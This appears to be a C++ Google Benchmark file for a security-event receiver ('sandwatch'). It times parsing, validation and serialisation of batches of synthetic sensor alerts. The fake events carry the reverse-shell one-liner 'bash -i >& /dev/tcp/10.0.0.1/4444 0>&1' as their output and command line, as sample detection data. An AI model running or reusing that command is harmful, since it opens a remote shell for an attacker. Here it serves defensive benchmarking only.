// What an HTTP worker pays per event before the writer (Google Benchmark), on a batch of
// 100 sensor-sized events (about 700 bytes each, the load generator's shape), stage by
// stage and as the whole path: the tree-based parser (the reference in
// receiver/tests/events_tree_reference.h) against the one-pass parser the receiver runs,
// and the tree-serialised stored form against the direct one, in the same binary.
// us_per_event is CPU time per event.
#include <benchmark/benchmark.h>

#include <nlohmann/json.hpp>
#include <random>

#include "events_tree_reference.h"
#include "sandwatch/core/clock.h"
#include "sandwatch/core/event.h"
#include "sandwatch/core/ids.h"
#include "sandwatch/receiver/ingest.h"
#include "sandwatch/receiver/store.h"

namespace sandwatch::receiver {
namespace {

using nlohmann::json;

constexpr int kBatch = 100;

Event SensorSizedEvent(std::mt19937_64& rng, int64_t i) {
  Event e;
  e.id = NewUuid();
  e.seq = static_cast<uint64_t>(i + 1);
  e.time_ns = 1'795'856'400'000'000'000 + i * 1'000'000;
  std::string pod = "pod-" + std::to_string(rng() % 200);
  e.rule = "reverse_shell";
  e.output = "reverse_shell by bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 in " + pod + " host-" +
             std::to_string(rng() % 5000);
  e.tags = {"mitre_execution"};
  e.sensor = {"sensor-1", "sidecar", "poll", "0.1.0"};
  e.pod = pod;
  e.ns = "bench";
  e.hostname = "node-1";
  e.process = ProcessRef{static_cast<int>(rng() % 30000),
                         1,
                         0,
                         "sh",
                         "/bin/sh",
                         {"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
                         0,
                         "/"};
  e.parent = AncestorRef{1, "bash", {"bash"}};
  return e;
}

const std::string& BatchBody() {
  static const std::string body = [] {
    std::mt19937_64 rng(7);
    std::string s = "[";
    for (int i = 0; i < kBatch; ++i) {
      if (i) s += ',';
      s += EventToJsonLine(SensorSizedEvent(rng, i));
    }
    return s + "]";
  }();
  return body;
}

std::vector<Event> BatchEvents() { return std::move(ParseEventsBody(BatchBody()).value()); }

void PerEvent(benchmark::State& state) {
  state.counters["us_per_event"] = benchmark::Counter(
      kBatch * 1e-6, benchmark::Counter::kIsIterationInvariantRate | benchmark::Counter::kInvert);
  state.counters["bytes_per_event"] = static_cast<double>(BatchBody().size()) / kBatch;
}

void BM_CheckNesting(benchmark::State& state) {
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    benchmark::DoNotOptimize(CheckNesting(BatchBody()));
  }
  PerEvent(state);
}

void BM_ParseTree(benchmark::State& state) {
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    benchmark::DoNotOptimize(json::parse(BatchBody(), nullptr, false));
  }
  PerEvent(state);
}

void BM_EventFromTree(benchmark::State& state) {
  const json tree = json::parse(BatchBody());
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    for (const auto& item : tree) benchmark::DoNotOptimize(EventFromJson(item));
  }
  PerEvent(state);
}

// Parse and validation, the tree-based way (parse into a tree, then EventFromJson).
void BM_ParseAndValidateTree(benchmark::State& state) {
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    benchmark::DoNotOptimize(ParseEventsBodyTree(BatchBody()));
  }
  PerEvent(state);
}

// Parse and validation in one pass, nlohmann's SAX parser straight into the Event structs.
void BM_ParseAndValidateStream(benchmark::State& state) {
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    benchmark::DoNotOptimize(ParseEventsBody(BatchBody(), EventsParser::kNlohmann));
  }
  PerEvent(state);
}

// The same pass fed by simdjson's parse and a walk of its tape (what the receiver runs).
void BM_ParseAndValidateTape(benchmark::State& state) {
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    benchmark::DoNotOptimize(ParseEventsBody(BatchBody(), EventsParser::kFastest));
  }
  PerEvent(state);
}

void BM_StoredFormTree(benchmark::State& state) {
  const std::vector<Event> events = BatchEvents();
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    for (const auto& e : events) {
      benchmark::DoNotOptimize(EventToJson(e).dump(-1, ' ', false, json::error_handler_t::replace));
    }
  }
  PerEvent(state);
}

void BM_StoredFormDirect(benchmark::State& state) {
  const std::vector<Event> events = BatchEvents();
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    for (const auto& e : events) benchmark::DoNotOptimize(EventToJsonLine(e));
  }
  PerEvent(state);
}

void BM_SearchText(benchmark::State& state) {
  const std::vector<Event> events = BatchEvents();
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    for (const auto& e : events) benchmark::DoNotOptimize(SearchText(e));
  }
  PerEvent(state);
}

// The worker's whole path with the tree-based parser: parse into a tree, validate, then
// Prepare (stored form written directly, search text).
void BM_WorkerPathTree(benchmark::State& state) {
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    auto events = ParseEventsBodyTree(BatchBody());
    for (auto& e : *events) benchmark::DoNotOptimize(Prepare(std::move(e)));
  }
  PerEvent(state);
}

// The worker's whole path now (routes.cpp: the one-pass ParseEventsBody, then Prepare).
void BM_WorkerPath(benchmark::State& state) {
  for (auto _ : state) {  // NOLINT(clang-analyzer-deadcode.DeadStores): benchmark loop
    auto events = ParseEventsBody(BatchBody());
    for (auto& e : *events) benchmark::DoNotOptimize(Prepare(std::move(e)));
  }
  PerEvent(state);
}

BENCHMARK(BM_CheckNesting);
BENCHMARK(BM_ParseTree);
BENCHMARK(BM_EventFromTree);
BENCHMARK(BM_ParseAndValidateTree);
BENCHMARK(BM_ParseAndValidateStream);
BENCHMARK(BM_ParseAndValidateTape);
BENCHMARK(BM_StoredFormTree);
BENCHMARK(BM_StoredFormDirect);
BENCHMARK(BM_SearchText);
BENCHMARK(BM_WorkerPathTree);
BENCHMARK(BM_WorkerPath);

}  // namespace
}  // namespace sandwatch::receiver

BENCHMARK_MAIN();
